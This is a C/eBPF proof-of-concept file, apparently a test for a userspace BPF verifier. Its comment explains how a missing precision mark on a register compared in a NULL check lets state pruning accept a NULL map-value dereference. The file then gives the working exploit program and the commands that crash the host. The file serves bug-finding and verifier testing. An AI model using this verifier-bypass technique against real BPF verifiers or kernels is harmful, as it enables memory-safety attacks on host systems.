// SPDX-License-Identifier: GPL-2.0
/*
 * attack_03 - a NULL check against a register (JMP_X) trusts the register's
 * value being 0 without marking it precise, so pruning substitutes any value.
 *
 * check_cond_jmp() (src/verifier/verifier.c) treats "if r0 == r7" as a NULL
 * check whenever r7 is the constant 0 in the current state (reg_is_const),
 * but never calls mark_precise() on r7.  At the checkpoint P the constant r7
 * is therefore imprecise and regsafe() lets any scalar match it.
 *
 * Path A (fall-through, explored first): r7 = 0.  After P, r0 = lookup(arr,
 * key): maybe NULL; "if r0 == r7 goto out" is taken as a NULL check, so on
 * the fall-through r0 is a valid map value and *(u64 *)(r0 + 0) is accepted.
 * Path B: r7 = 5; at P it is pruned (r7 imprecise, anything matches).  At run
 * time with a key out of range the lookup returns NULL, "NULL == 5" is false,
 * and the program dereferences NULL.
 *
 * The kernel only treats BPF_K comparisons with 0 as NULL checks.
 * Expected: rejected (R0 invalid mem access 'map_value_or_null').
 * Actual: accepted; ctx = {sel = 1, key = 7}: SIGSEGV (NULL read) in the host.
 *   build/ibpf verify build/progs/attack_03.o
 *   build/ibpf run build/progs/attack_03.o --ctx 01000000000000000700000000000000
 */
#include <linux/bpf.h>
#include <bpf/bpf_helpers.h>

struct {
	__uint(type, BPF_MAP_TYPE_ARRAY);
	__uint(max_entries, 1);
	__type(key, __u32);
	__type(value, __u64);
} a03_map SEC(".maps");

SEC("syscall") __attribute__((naked)) int attack_03(void *ctx)
{
	asm volatile (
		"r6 = *(u64 *)(r1 + 0);"
		"r8 = *(u64 *)(r1 + 8);"
		"r7 = 0;"
		"r3 = 0;"
		"r3 = 0;"
		"r3 = 0;"
		"r3 = 0;"
		"r3 = 0;"
		"r3 = 0;"
		"r3 = 0;"
		"if r6 != 0 goto l_b_%=;"
		"r3 = 0;"
		"r3 = 0;"
		"r3 = 0;"
		"r3 = 0;"
		"r3 = 0;"
		"r3 = 0;"
		"r3 = 0;"
		"r3 = 0;"
		"goto l_p_%=;"
	"l_b_%=:"
		"r7 = 5;"
	"l_p_%=:"
		"*(u32 *)(r10 - 4) = r8;"
		"r2 = r10;"
		"r2 += -4;"
		"r1 = %[map] ll;"
		"call %[lookup];"
		"if r0 == r7 goto l_out_%=;"
		"r0 = *(u64 *)(r0 + 0);"
		"exit;"
	"l_out_%=:"
		"r0 = 0;"
		"exit;"
		:
		: [map] "i"(&a03_map), [lookup] "i"(BPF_FUNC_map_lookup_elem)
		: "memory");
}

char _license[] SEC("license") = "GPL";
